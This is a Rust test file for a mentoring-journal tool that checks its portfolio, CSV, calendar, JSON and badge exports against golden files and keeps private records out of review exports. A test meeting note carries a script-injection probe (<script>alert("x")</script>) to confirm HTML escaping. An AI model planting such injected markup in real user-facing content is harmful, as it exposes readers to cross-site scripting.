//! Exports: golden files for the portfolio (Markdown and HTML), the CSV tables, the calendar,
//! the JSON and the badges, made from a small deterministic journal built through the store;
//! the calendar and the CSV read back with real parsers; the badge refused or issued; review
//! mode keeping private records out of every export; and the `export` command end to end.
//!
//! `UPDATE_GOLDEN=1 cargo test --test export` rewrites the files in `tests/golden/`.

#[path = "common/issuer.rs"]
mod issuer;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use assert_cmd::Command;
use chrono::{NaiveDate, NaiveTime};
use icalendar::{Calendar, CalendarComponent, Component, DatePerhapsTime};
use mentorlog::export::{self, Export, PortfolioFormat, Table};
use mentorlog::journal::{Audience, Journal as Core};
use mentorlog::model::{
    ActionItem, Agreement, Evaluation, Evidence, Goal, GoalStatus, Journal, LikertAnswer, Meeting,
    MeetingMode, MeetingType, Owner, Partnership, PartnershipKind, PartnershipStatus, Pathway,
    Profile, Reflection, Review, Role, SCHEMA_VERSION, StageRecord, Tick, TickSheet, Verification,
};
use mentorlog::store::{PartnershipData, Store};
use serde_json::Value;
use tempfile::TempDir;

const BIN: &str = env!("CARGO_BIN_EXE_mentorlog");
const TODAY: &str = "2026-11-23";

/// Words that appear only in private records: none may reach an export in review mode.
const PRIVATE_WORDS: &[&str] = &[
    "PRIVATE-NOTE",
    "PRIVATE-ACTION",
    "PRIVATE-REFLECTION",
    "Wellbeing check-in",
    "m00003",
];

// ---------------------------------------------------------------- the journal

fn d(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn today() -> NaiveDate {
    d(TODAY)
}

/// A staged framework of two stages reusing CUREE items, as the LJMU stages do.
const STAGES: &str = r#"Framework(
    id: "induction-stages",
    title: "Induction mentor stages",
    source: "Written for the tests",
    levels: [],
    sections: [
        Section(id: "developing", title: "Developing mentor", description: "The first stage of the induction mentor framework.", sections: [
            Section(id: "developing-criteria", title: "Criteria", items: [
                Item(id: "dev-standards", text: "Knows the induction standards", guidance: "Evidenced by: notes of a standards meeting", codes: ["IS. 1"]),
            ]),
            Section(id: "developing-curee", title: "CUREE checklist", items: [
                Item(id: "dev-open-questions", ref: "curee/mentor-open-questions"),
                Item(id: "dev-listen", ref: "curee/mentor-listen-actively"),
            ]),
        ]),
        Section(id: "effective", title: "Effective mentor", sections: [
            Section(id: "effective-criteria", title: "Criteria", items: [
                Item(id: "eff-lead", text: "Leads induction for a team"),
            ]),
        ]),
    ],
)
"#;

/// A rubric framework: items take a level.
const RUBRIC: &str = r#"Framework(
    id: "test-rubric",
    title: "Teaching rubric",
    source: "Written for the tests",
    levels: ["1", "2", "3"],
    sections: [
        Section(id: "craft", title: "Craft", items: [
            Item(id: "planning", text: "Plans coherent sequences", descriptors: {"1": "Single lessons", "2": "Sequences", "3": "Whole units"}),
        ]),
    ],
)
"#;

fn journal() -> Journal {
    Journal {
        members: Vec::new(),
        version: SCHEMA_VERSION,
        profile: Profile {
            id: None,
            keys: Vec::new(),
            name: "Jo Taylor".into(),
            role: Role::Mentor,
            institution: Some("Northfield High School".into()),
            stage: Some("induction-stages/developing".into()),
        },
        settings: Default::default(),
    }
}

fn partnership(name: &str, frameworks: &[&str]) -> Partnership {
    Partnership {
        signatures: Vec::new(),
        by: Default::default(),
        version: SCHEMA_VERSION,
        id: String::new(),
        name: name.into(),
        institution: Some("Northfield High School".into()),
        kind: PartnershipKind::Induction,
        pathway: Pathway::ExpertiseFocused,
        focus: Some("Questioning, talk & <reasoning>".into()),
        start: d("2026-01-12"),
        end: None,
        cadence_days: 14,
        rhythm: Default::default(),
        frameworks: frameworks.iter().map(|f| f.to_string()).collect(),
        status: PartnershipStatus::Active,
        agreement: None,
        thoughts: Vec::new(),
        evaluation: None,
    }
}

fn action(id: &str, text: &str, owner: Owner, due: Option<&str>, done: bool) -> ActionItem {
    ActionItem {
        id: id.into(),
        text: text.into(),
        owner,
        due: due.map(d),
        done,
    }
}

fn meeting(id: &str, date: &str, focus: &str, notes: &str) -> Meeting {
    let mut m = Meeting::new(id.into(), d(date));
    m.focus = focus.into();
    m.notes = notes.into();
    m
}

fn tick(date: &str, meetings: &[&str], notes: &[&str], files: &[&str]) -> Tick {
    Tick {
        date: d(date),
        level: None,
        evidence: Evidence {
            meetings: meetings.iter().map(|s| s.to_string()).collect(),
            notes: notes.iter().map(|s| s.to_string()).collect(),
            files: files.iter().map(|s| s.to_string()).collect(),
        },
        verification: None,
    }
}

fn ana(date: &str, comment: &str) -> Verification {
    Verification {
        name: "Ana Ruiz".into(),
        role: Some("Induction tutor".into()),
        date: d(date),
        comment: comment.into(),
    }
}

fn reflection(id: &str, date: &str, author: Role, text: &str) -> Reflection {
    Reflection {
        by: Default::default(),
        version: SCHEMA_VERSION,
        id: id.into(),
        date: d(date),
        author,
        prompt: None,
        text: text.into(),
        attachment: None,
        private: false,
    }
}

fn sheet(framework: &str, ticks: Vec<(&str, Tick)>) -> TickSheet {
    let mut s = TickSheet::new(framework);
    for (item, t) in ticks {
        s.ticks.insert(item.into(), t);
    }
    s
}

fn add_partnership(store: &Store, p: Partnership) -> PartnershipData {
    let id = store.create_partnership(p).unwrap().value.id;
    store.load().partnership(&id).unwrap().clone()
}

/// The golden journal: Sam Lee, a partnership not yet ready for ScotELAs recognition, with
/// text that needs escaping everywhere, a private meeting and a private reflection, ticks in
/// CUREE, a staged framework (its first stage complete) and a rubric.
fn sam(store: &Store) {
    let fdir = store.frameworks_dir();
    fs::create_dir_all(&fdir).unwrap();
    fs::write(fdir.join("induction-stages.ron"), STAGES).unwrap();
    fs::write(fdir.join("test-rubric.ron"), RUBRIC).unwrap();
    store.save_journal(None, &journal()).unwrap();

    let mut p = partnership("Sam Lee", &["curee", "induction-stages", "test-rubric"]);
    p.agreement = Some(Agreement {
        outcomes: vec![
            "Use open questions in every lesson".into(),
            "Manage transitions calmly, with routines".into(),
        ],
        mentee_responsibilities: vec!["Bring a lesson plan to each meeting".into()],
        mentor_responsibilities: vec!["Observe a lesson a fortnight".into()],
        tone_ground_rules: vec!["Honest, kind & confidential".into()],
        logistics_ground_rules: vec!["Tuesdays 15:30, science office".into()],
        agreed_by_mentee: Some(d("2026-01-14")),
        agreed: Vec::new(),
        agreed_by_mentor: None,
    });
    let p = add_partnership(store, p);

    let mut m1 = meeting(
        "m00001",
        "2026-01-14",
        "First meeting: hopes, goals & ground rules",
        "Sam wrote <script>alert(\"x\")</script> & said \"why?\", twice; then paused.\n\
         A backslash \\ stays, and café — 😀 too.\n\n- not a list\n1. not a list either",
    );
    m1.time = NaiveTime::from_hms_opt(15, 30, 0);
    m1.duration_minutes = Some(45);
    m1.outcomes = "Agreed a draft agreement.".into();
    m1.action_items = vec![
        action(
            "a1",
            "Draft three outcomes, with dates",
            Owner::Mentee,
            Some("2026-01-21"),
            true,
        ),
        action(
            "a2",
            "Book the observation; tell the office",
            Owner::Mentor,
            Some("2026-12-01"),
            false,
        ),
    ];
    m1.tags = vec!["start".into()];
    store.create_meeting(&p, &m1).unwrap();

    let mut m2 = meeting(
        "m00002",
        "2026-02-03",
        "Observation debrief",
        "The lesson opened with a hinge question; most pupils answered with one word, so we \
         rehearsed follow-ups (\"why do you think that?\", \"what would change your mind?\") and \
         planned to wait five seconds before taking answers.",
    );
    m2.mode = MeetingMode::Video;
    m2.kind = MeetingType::ObservationOfMentee;
    m2.goals = vec!["g00001".into()];
    m2.evidences = vec!["curee/mentor-open-questions".into()];
    m2.action_items = vec![
        action(
            "a1",
            "Script five follow-up questions",
            Owner::Mentee,
            None,
            false,
        ),
        action(
            "a2",
            "Share the department's questioning stems",
            Owner::SupportNetwork,
            Some("2026-02-10"),
            false,
        ),
    ];
    store.create_meeting(&p, &m2).unwrap();

    let mut m3 = meeting(
        "m00003",
        "2026-02-20",
        "Wellbeing check-in",
        "PRIVATE-NOTE: Sam is worried about the workload.",
    );
    m3.private = true;
    m3.action_items = vec![action(
        "a1",
        "PRIVATE-ACTION: protect one evening a week",
        Owner::Mentee,
        Some("2026-03-01"),
        false,
    )];
    store.create_meeting(&p, &m3).unwrap();

    store
        .create_goal(
            &p,
            &Goal {
                by: Default::default(),
                version: SCHEMA_VERSION,
                id: "g00001".into(),
                created: d("2026-01-14"),
                learning_goal: "Deepen pupils' reasoning".into(),
                objective: "Use open questions, \"why\" and \"how\", in every lesson".into(),
                mentee_actions: "Plan three open questions a lesson".into(),
                mentor_actions: "Observe and note question types".into(),
                support_actions: "Head of science shares stems".into(),
                barriers: "Time pressure in practicals".into(),
                success_measures: "Pupils explain their reasoning,\nin full sentences".into(),
                target: Some(d("2026-03-31")),
                status: GoalStatus::InProgress,
                agreed: Vec::new(),
                comments: Vec::new(),
                reviews: vec![Review {
                    date: d("2026-02-20"),
                    note: "Good progress; see the debrief".into(),
                }],
            },
        )
        .unwrap();
    store
        .create_goal(
            &p,
            &Goal {
                by: Default::default(),
                version: SCHEMA_VERSION,
                id: "g00002".into(),
                created: d("2026-02-03"),
                learning_goal: String::new(),
                objective: "Plan an intervention from data".into(),
                mentee_actions: String::new(),
                mentor_actions: String::new(),
                support_actions: String::new(),
                barriers: String::new(),
                success_measures: String::new(),
                target: None,
                status: GoalStatus::NotStarted,
                agreed: Vec::new(),
                comments: Vec::new(),
                reviews: vec![],
            },
        )
        .unwrap();

    let mut r1 = reflection(
        "r00001",
        "2026-02-04",
        Role::Mentee,
        "Pupils talked more.\nI waited longer.",
    );
    r1.prompt = Some("What went well, and why?".into());
    r1.attachment = Some("audio/2026-02-04.m4a".into());
    store.create_reflection(&p, &r1).unwrap();
    let mut r2 = reflection(
        "r00002",
        "2026-02-21",
        Role::Mentor,
        "PRIVATE-REFLECTION: I should step back more.",
    );
    r2.private = true;
    store.create_reflection(&p, &r2).unwrap();

    let mut open = tick(
        "2026-02-03",
        &["m00002"],
        &["Debrief notes, 3 Feb"],
        &["evidence/obs-2026-02-03.pdf"],
    );
    open.verification = Some(Box::new(ana("2026-02-05", "Seen in the debrief")));
    let curee = sheet(
        "curee",
        vec![
            ("mentor-open-questions", open),
            (
                "mentor-listen-actively",
                tick("2026-02-20", &["m00003"], &["Seen in the check-in"], &[]),
            ),
        ],
    );
    store.save_at(&p.tick_path("curee"), None, &curee).unwrap();
    let stages = sheet(
        "induction-stages",
        vec![(
            "dev-standards",
            tick("2026-02-03", &[], &["Standards meeting notes"], &[]),
        )],
    );
    store
        .save_at(&p.tick_path("induction-stages"), None, &stages)
        .unwrap();
    let mut level = tick("2026-02-10", &[], &[], &[]);
    level.level = Some("2".into());
    store
        .save_at(
            &p.tick_path("test-rubric"),
            None,
            &sheet("test-rubric", vec![("planning", level)]),
        )
        .unwrap();
    store
        .save_at(
            &p.dir.join("stages").join("induction-stages-developing.ron"),
            None,
            &StageRecord {
                by: Default::default(),
                version: SCHEMA_VERSION,
                framework: "induction-stages".into(),
                stage: "developing".into(),
                reflection: "I learned to listen before I advise.".into(),
                targets: "Observe a colleague's mentoring conversation".into(),
                verifications: vec![ana("2026-03-01", "Seen in practice")],
            },
        )
        .unwrap();
}

/// Priya Shah: a partnership that meets every ScotELAs rule.
fn priya(store: &Store) {
    if store.load().journal.is_none() {
        store.save_journal(None, &journal()).unwrap();
    }
    let mut p = partnership("Priya Shah", &["curee"]);
    p.focus = Some("Assessment for learning".into());
    p.agreement = Some(Agreement {
        outcomes: vec![
            "Embed exit tickets".into(),
            "Plan from misconceptions".into(),
            "Lead a department session".into(),
        ],
        agreed_by_mentee: Some(d("2026-01-10")),
        agreed: Vec::new(),
        agreed_by_mentor: Some(d("2026-01-10")),
        ..Agreement::default()
    });
    p.evaluation = Some(Evaluation {
        date: d("2026-07-20"),
        answers: vec![
            LikertAnswer {
                statement: "We met as agreed".into(),
                score: 5,
            },
            LikertAnswer {
                statement: "The agreement's tone was kept".into(),
                score: 4,
            },
        ],
        comments: "A good year.".into(),
    });
    let p = add_partnership(store, p);
    for (i, date) in [
        "2026-01-10",
        "2026-03-05",
        "2026-05-01",
        "2026-06-25",
        "2026-07-15",
    ]
    .iter()
    .enumerate()
    {
        let m = meeting(
            &format!("pm{i:04}"),
            date,
            "Exit tickets",
            "Looked at the week's exit tickets.",
        );
        store.create_meeting(&p, &m).unwrap();
    }
    for (i, (date, author)) in [
        ("2026-02-01", Role::Mentee),
        ("2026-04-01", Role::Mentee),
        ("2026-02-02", Role::Mentor),
        ("2026-04-02", Role::Mentor),
    ]
    .into_iter()
    .enumerate()
    {
        store
            .create_reflection(
                &p,
                &reflection(&format!("pr{i:04}"), date, author, "Reflected."),
            )
            .unwrap();
    }
    store
        .save_at(
            &p.tick_path("curee"),
            None,
            &sheet(
                "curee",
                vec![(
                    "mentor-open-questions",
                    tick("2026-03-05", &["pm0001"], &["Exit ticket analysis"], &[]),
                )],
            ),
        )
        .unwrap();
}

struct Journalled {
    _tmp: TempDir,
    store: Store,
    journal: Core,
}

impl Journalled {
    fn new(build: &[fn(&Store)]) -> Journalled {
        let tmp = tempfile::tempdir().unwrap();
        let store = Store::new(tmp.path().join("journal"));
        for b in build {
            b(&store);
        }
        // Every record last modified at one moment, so the calendar's SEQUENCE numbers (the
        // records' revisions) are the same on every run.
        set_mtimes(store.root(), FIXED_MTIME);
        let journal = Core::open(store.clone(), today());
        assert!(journal.problems().is_empty(), "{:?}", journal.problems());
        Journalled {
            _tmp: tmp,
            store,
            journal,
        }
    }

    fn dir(&self) -> &Path {
        self.store.root()
    }

    fn export(&self, id: &str, review: bool) -> Export<'_> {
        let r = self.journal.reader(if review {
            Audience::Review
        } else {
            Audience::Owner
        });
        let mut x = Export::new(&r, r.partner(id).unwrap());
        // As the command stamps an export when today is pinned (MENTORLOG_TODAY).
        x.stamp = today().and_time(NaiveTime::MIN).and_utc();
        x
    }
}

/// 2026-11-20T10:00:00Z, seconds after the Unix epoch.
const FIXED_MTIME: u64 = 1_795_168_800;

/// Set the modification time of every file under `dir` to `secs` after the Unix epoch.
fn set_mtimes(dir: &Path, secs: u64) {
    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs);
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            set_mtimes(&p, secs);
        } else {
            fs::File::options()
                .write(true)
                .open(&p)
                .unwrap()
                .set_modified(t)
                .unwrap();
        }
    }
}

// ---------------------------------------------------------------- golden files

/// The unsigned credential for `scheme` as a fixed issuance makes it, as pretty JSON.
fn badge_text(x: &Export, scheme: &str) -> Result<String, export::BadgeError> {
    export::badge(x, scheme, &issuer::issuance())
        .map(|v| serde_json::to_string_pretty(&v).unwrap() + "\n")
}

/// A badge the command issued, with what is new at each issuance (its id, the recipient's
/// salt, the issuer's key, the time, the proof) set to the fixed issuance's, as pretty JSON.
fn issued_as_fixed(text: &str) -> String {
    let mut v: Value = serde_json::from_str(text).unwrap();
    let fixed: Value = serde_json::from_str(&badge_text_fixed_parts()).unwrap();
    let o = v.as_object_mut().unwrap();
    o.remove("proof");
    for k in ["id", "issuer"] {
        o.insert(k.into(), fixed[k].clone());
    }
    v["credentialSubject"]["identifier"] = fixed["credentialSubject"]["identifier"].clone();
    serde_json::to_string_pretty(&v).unwrap() + "\n"
}

fn badge_text_fixed_parts() -> String {
    let i = issuer::issuance();
    serde_json::json!({
        "id": i.id,
        "issuer": {"id": i.issuer_id(), "type": ["Profile"], "name": i.issuer_name},
        "validFrom": "2026-11-23T00:00:00Z",
        "credentialSubject": {"identifier": [{
            "type": "IdentityObject",
            "identityHash": i.recipient.identity_hash,
            "identityType": "emailAddress",
            "hashed": true,
            "salt": i.recipient.salt,
        }]},
    })
    .to_string()
}

fn golden_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests")
        .join("golden")
        .join(name)
}

/// Compare with `tests/golden/NAME` exactly; `UPDATE_GOLDEN=1` rewrites it instead.
fn golden(name: &str, actual: &str) {
    let path = golden_path(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v == "1") {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, actual).unwrap();
        return;
    }
    let expected = fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e}; run `UPDATE_GOLDEN=1 cargo test --test export` to create it",
            path.display()
        )
    });
    if expected != actual {
        let line = expected
            .lines()
            .zip(actual.lines())
            .position(|(a, b)| a != b)
            .map_or_else(
                || expected.lines().count().min(actual.lines().count()) + 1,
                |i| i + 1,
            );
        panic!(
            "{} differs from the export, first at line {line}:\n  golden: {:?}\n  export: {:?}\n\
             (run `UPDATE_GOLDEN=1 cargo test --test export` if the change is intended, then read the diff)",
            path.display(),
            expected.lines().nth(line - 1).unwrap_or("<end>"),
            actual.lines().nth(line - 1).unwrap_or("<end>")
        );
    }
}

#[test]
fn portfolio_markdown_matches_its_golden_file() {
    let j = Journalled::new(&[sam]);
    golden(
        "portfolio.md",
        &export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Markdown),
    );
}

#[test]
fn portfolio_html_matches_its_golden_file() {
    let j = Journalled::new(&[sam]);
    golden(
        "portfolio.html",
        &export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Html),
    );
}

#[test]
fn csv_tables_match_their_golden_files() {
    let j = Journalled::new(&[sam]);
    let x = j.export("sam-lee", false);
    golden("goals.csv", &export::csv(&x, Table::Goals));
    golden("meetings.csv", &export::csv(&x, Table::Meetings));
    golden("ticks.csv", &export::csv(&x, Table::Ticks));
}

#[test]
fn calendar_matches_its_golden_file() {
    let j = Journalled::new(&[sam]);
    golden("meetings.ics", &export::ics(&j.export("sam-lee", false)));
}

#[test]
fn json_matches_its_golden_file() {
    let j = Journalled::new(&[sam]);
    golden("export.json", &export::json(&j.export("sam-lee", false)));
}

#[test]
fn stage_badge_and_refusal_match_their_golden_files() {
    let j = Journalled::new(&[sam]);
    let x = j.export("sam-lee", false);
    golden(
        "badge-stage.json",
        &badge_text(&x, "induction-stages/developing").unwrap(),
    );
    let refused = badge_text(&x, "scotelas").unwrap_err();
    golden("badge-refused.txt", &format!("{refused}\n"));
}

// ---------------------------------------------------------------- what the goldens hold

#[test]
fn the_portfolio_holds_every_part_of_the_learning_journal() {
    let j = Journalled::new(&[sam]);
    let x = j.export("sam-lee", false);
    let md = export::portfolio(&x, PortfolioFormat::Markdown);
    for part in [
        "# Learning Journal of Jo Taylor with Sam Lee",
        "| Mentor | Jo Taylor (Northfield High School) |",
        "| Mentee | Sam Lee (Northfield High School) |",
        "| Pathway | Expertise-focused |",
        "| Cadence | A meeting every fortnight (14 days) |",
        "1. Use open questions in every lesson",
        "Agreed by the mentee: 2026-01-14. Agreed by the mentor: not yet.",
        "### 2026-01-14: First meeting: hopes, goals & ground rules",
        "*Meeting · In person · 15:30 · 45 minutes* · id `m00001`",
        "- [ ] Book the observation; tell the office (mentor, due 2026-12-01)",
        "| Objective | Mentee's actions | Mentor's actions | Support network's actions | Potential barriers | Success measures | Target completion date | Status | Review notes |",
        "Pupils explain their reasoning,<br>in full sentences",
        "2026-03-31 (overdue) | In progress | 2026-02-20: Good progress; see the debrief |",
        // Each tick with its text, date and evidence.
        "- [x] use open questions to raise awareness",
        "— achieved 2026-02-03",
        "  - evidence: meeting of 2026-02-03, *Observation debrief*",
        "  - evidence: Debrief notes, 3 Feb",
        "  - evidence: file `evidence/obs-2026-02-03.pdf`",
        "  - verified by Ana Ruiz (Induction tutor) on 2026-02-05: Seen in the debrief",
        "- [x] Knows the induction standards (IS. 1) — achieved 2026-02-03",
        "| Plans coherent sequences | 2 |",
        "### 2026-02-04, by the mentee",
        "*Prompt: What went well, and why?*",
        "Attachment: `audio/2026-02-04.m4a`",
        "### Induction mentor stages: Developing mentor",
        "**Targets for further development.** Observe a colleague's mentoring conversation",
        "| Ana Ruiz | Induction tutor | 2026-03-01 | Seen in practice |",
        "### ScotELAs mentoring recognition — not yet ready",
        "  - missing: the agreement names 2 outcome(s); at least 3 are needed",
        "### Induction mentor stages: Developing mentor — ready",
        "- [x] Every criterion achieved with evidence",
    ] {
        assert!(md.contains(part), "missing {part:?} in:\n{md}");
    }
    // Text from the journal is escaped, never markup.
    assert!(md.contains("\\<script\\>"), "{md}");
    assert!(md.contains("\\- not a list"), "{md}");
    assert!(md.contains("1\\. not a list either"), "{md}");
}

#[test]
fn the_html_portfolio_is_self_contained_printable_and_escaped() {
    let j = Journalled::new(&[sam]);
    let html = export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Html);
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<meta charset=\"utf-8\">"));
    assert!(html.contains("@media print"));
    assert!(html.contains("@page { size: A4;"));
    // Nothing outside the file, and no scripts of its own.
    for bad in [
        "<script", "<link", "src=", "http:", "https:", "@import", "url(",
    ] {
        assert!(!html.contains(bad), "{bad} in the HTML portfolio");
    }
    assert!(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; said"));
    assert!(html.contains("Honest, kind &amp; confidential"));
    assert!(html.contains("Questioning, talk &amp; &lt;reasoning&gt;"));
    // The seven ScotELAs columns.
    for col in [
        "Objective",
        "Mentee’s actions",
        "Mentor’s actions",
        "Support network’s actions",
        "Potential barriers",
        "Success measures",
        "Target completion date",
    ] {
        assert!(html.contains(&format!("<th>{col}</th>")), "{col}");
    }
    // CUREE's "listen actively" keeps its four points.
    assert!(html.contains("<ul class=\"points\"><li>accommodating and valuing silence</li>"));
}

#[test]
fn html_escape_handles_script_and_ampersand() {
    assert_eq!(
        export::html_escape("<script>x</script> & \"y\" 'z'"),
        "&lt;script&gt;x&lt;/script&gt; &amp; &quot;y&quot; &#39;z&#39;"
    );
}

// ---------------------------------------------------------------- the printed portfolio

/// The document's style sheets, comments left out.
fn style_of(html: &str) -> String {
    let mut css = String::new();
    for part in html.split("<style>").skip(1) {
        css.push_str(part.split("</style>").next().unwrap());
        css.push('\n');
    }
    let mut out = String::new();
    let mut rest = css.as_str();
    while let Some(i) = rest.find("/*") {
        out.push_str(&rest[..i]);
        rest = rest[i..].find("*/").map_or("", |j| &rest[i + j + 2..]);
    }
    out.push_str(rest);
    out
}

/// The selectors of every rule whose declarations hold `decl` (nested rules included).
fn selectors_with(css: &str, decl: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (at, _) in css.match_indices(decl) {
        let open = css[..at].rfind('{').unwrap();
        let start = css[..open].rfind(['{', '}']).map_or(0, |i| i + 1);
        out.extend(
            css[start..open]
                .split(',')
                .map(|s| s.split_whitespace().collect::<Vec<_>>().join(" "))
                .filter(|s| !s.is_empty()),
        );
    }
    out
}

/// The text of `<section ... id="ID">` up to its end.
fn html_section<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html
        .find(&format!("id=\"{id}\">"))
        .unwrap_or_else(|| panic!("no section {id}"));
    let len = html[start..].find("</section>").unwrap();
    &html[start..start + len]
}

#[test]
fn the_printed_portfolio_numbers_its_pages_and_names_itself_on_each() {
    let j = Journalled::new(&[sam]);
    let html = export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Html);
    let css = style_of(&html);
    // "Page N of M" in a margin box of every page (Chromium 131 and later print them).
    let page = &css[css.find("@page {").expect("an @page rule")..];
    let page = &page[..page.find("} }").expect("the @page rule's end")];
    assert!(
        page.contains("@bottom-right { content: \"Page \" counter(page) \" of \" counter(pages);"),
        "{page}"
    );
    assert!(
        css.contains(
            "@page { @bottom-left { content: \"Learning Journal of Jo Taylor with Sam Lee\"; } }"
        ),
        "{css}"
    );
}

#[test]
fn the_printed_portfolio_forces_no_page_break_and_splits_no_box() {
    let j = Journalled::new(&[sam]);
    let html = export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Html);
    let css = style_of(&html);
    // No forced break (each section on a new page left pages nearly empty), and no named page
    // (a landscape page for the action plan forced a break before and after it).
    for forced in [
        "break-before: page",
        "break-after: page",
        "page-break-before",
        "page-break-after",
        "page: ",
    ] {
        assert!(!css.contains(forced), "{forced} in the style sheet");
    }
    let whole = selectors_with(&css, "break-inside: avoid");
    for boxed in [
        "tr",
        "tbody.goal",
        ".meeting",
        ".reflection",
        ".readiness",
        "ul.rules > li",
        ".stat",
        ".cover",
        ".signatures",
        ".sign",
    ] {
        assert!(
            whole.iter().any(|s| s == boxed),
            "{boxed} may be split over a page break: {whole:?}"
        );
    }
    let kept = selectors_with(&css, "break-after: avoid");
    for heading in ["h2", "h3", "h4", ".label", ".fw-head"] {
        assert!(kept.iter().any(|s| s == heading), "{heading}: {kept:?}");
    }
    // A progress bar ends a cell of the summary table: "avoid" on it passes to the row and
    // kept the whole table off a page it would have fitted on.
    assert!(!kept.iter().any(|s| s == ".bar"), "{kept:?}");
    // The closing line never stands alone on a last page.
    assert!(
        selectors_with(&css, "break-before: avoid")
            .iter()
            .any(|s| s == "footer"),
        "{css}"
    );
    // Each goal's two rows (the ScotELAs columns, then status and review notes) are one group.
    let plan = html_section(&html, "plan");
    assert_eq!(plan.matches("<tbody class=\"goal\">").count(), 2, "{plan}");
    assert_eq!(plan.matches("<tr class=\"state\">").count(), 2, "{plan}");
}

#[test]
fn the_agreement_ends_with_lines_for_the_mentor_and_the_mentee_to_sign() {
    let j = Journalled::new(&[sam]);
    let x = j.export("sam-lee", false);
    let html = export::portfolio(&x, PortfolioFormat::Html);
    let agreement = html_section(&html, "agreement");
    let signs = &agreement[agreement
        .find("<div class=\"signatures\">")
        .expect("signature block in the agreement")..];
    assert!(
        agreement.find("<h4>Agreed</h4>").unwrap()
            < agreement.find("class=\"signatures\"").unwrap()
    );
    for part in [
        "<p class=\"role\">Mentor</p><p>Name of the Mentor: <b>Jo Taylor</b></p>",
        "<p class=\"role\">Mentee</p><p>Name of the Mentee: <b>Sam Lee</b></p>",
    ] {
        assert!(signs.contains(part), "{part} not in {signs}");
    }
    assert_eq!(signs.matches("<div class=\"space\"></div>").count(), 2);
    assert_eq!(
        signs
            .matches("<p>Date: <span class=\"blank\"></span></p>")
            .count(),
        2
    );
    let md = export::portfolio(&x, PortfolioFormat::Markdown);
    let md_agreement = &md[md.find("## 2. The mentoring agreement").unwrap()
        ..md.find("## 3. The mentoring log").unwrap()];
    assert!(
        md_agreement.contains(
            "### Signatures\n\n\
             Name of the Mentor: Jo Taylor\\\n\
             Signature: ______________________________ Date: ______________\n\n\
             Name of the Mentee: Sam Lee\\\n\
             Signature: ______________________________ Date: ______________\n"
        ),
        "{md_agreement}"
    );
    // A journal kept by the mentee: the mentor, now the partner, still signs first.
    let mut x = j.export("sam-lee", false);
    let mentee = Profile {
        id: None,
        keys: Vec::new(),
        name: "Jo Taylor".into(),
        role: Role::Mentee,
        institution: None,
        stage: None,
    };
    x.profile = Some(&mentee);
    let signed: Vec<(String, Option<String>)> = x
        .agreement_signatories()
        .into_iter()
        .map(|s| (s.role, s.name))
        .collect();
    assert_eq!(
        signed,
        [
            ("Mentor".to_string(), Some("Sam Lee".to_string())),
            ("Mentee".to_string(), Some("Jo Taylor".to_string()))
        ]
    );
}

/// Sam's LJMU Developing Mentor stage, verified by the university liaison tutor only.
fn ljmu_stage(store: &Store) {
    let p = store.load().partnership("sam-lee").unwrap().clone();
    store
        .save_at(
            &p.dir.join("stages").join("ljmu-developing.ron"),
            None,
            &StageRecord {
                by: Default::default(),
                version: SCHEMA_VERSION,
                framework: "ljmu".into(),
                stage: "developing".into(),
                reflection: "Open questions did more than advice.".into(),
                targets: String::new(),
                verifications: vec![Verification {
                    name: "Dr Ana Ruiz".into(),
                    role: Some("university liaison / link tutor".into()),
                    date: d("2026-11-01"),
                    comment: "Verified.".into(),
                }],
            },
        )
        .unwrap();
}

#[test]
fn each_stage_verification_ends_with_lines_for_its_signatories() {
    let j = Journalled::new(&[sam, ljmu_stage]);
    let x = j.export("sam-lee", false);
    let html = export::portfolio(&x, PortfolioFormat::Html);
    let stages = html_section(&html, "stages");
    let blocks: Vec<&str> = stages.split("<div class=\"stage\">").skip(1).collect();
    assert_eq!(blocks.len(), 2, "{stages}");
    // The test framework names no signatories: the verifier recorded signs, under their role.
    let induction = blocks
        .iter()
        .find(|b| b.contains("Induction mentor stages"))
        .unwrap();
    assert!(
        induction.contains(
            "<p class=\"role\">Induction tutor</p><p>Name: <b>Ana Ruiz</b></p><p>Date: <span class=\"blank\"></span></p>"
        ),
        "{induction}"
    );
    // LJMU names the two who verify its Developing Mentor stage ("Professional Mentor;
    // University Liaison / Link Tutor"): a line for each, the one recorded named under it.
    let ljmu = blocks
        .iter()
        .find(|b| b.contains("Developing Mentor"))
        .unwrap();
    let signs = &ljmu[ljmu.find("<div class=\"signatures\">").expect("signatures")..];
    assert!(
        signs.contains(
            "<p class=\"role\">Professional Mentor</p><p>Name: <span class=\"blank\"></span></p>"
        ),
        "{signs}"
    );
    assert!(
        signs.contains(
            "<p class=\"role\">University Liaison / Link Tutor</p><p>Name: <b>Dr Ana Ruiz</b></p>"
        ),
        "{signs}"
    );
    assert_eq!(signs.matches("<div class=\"sign\">").count(), 2, "{signs}");
    let md = export::portfolio(&x, PortfolioFormat::Markdown);
    for part in [
        "#### Signatures\n\nInduction tutor: Ana Ruiz\\\nSignature: ______________________________ Date: ______________\n",
        "#### Signatures\n\nProfessional Mentor: ______________________________\\\n\
         Signature: ______________________________ Date: ______________\n\n\
         University Liaison / Link Tutor: Dr Ana Ruiz\\\n\
         Signature: ______________________________ Date: ______________\n",
    ] {
        assert!(md.contains(part), "{part:?} not in:\n{md}");
    }
}

/// Control characters, as imported notes bring them: a colour sequence, a bell, a form feed,
/// a NUL, a C1 next-line, a carriage return, a DEL, and a title-setting OSC sequence.
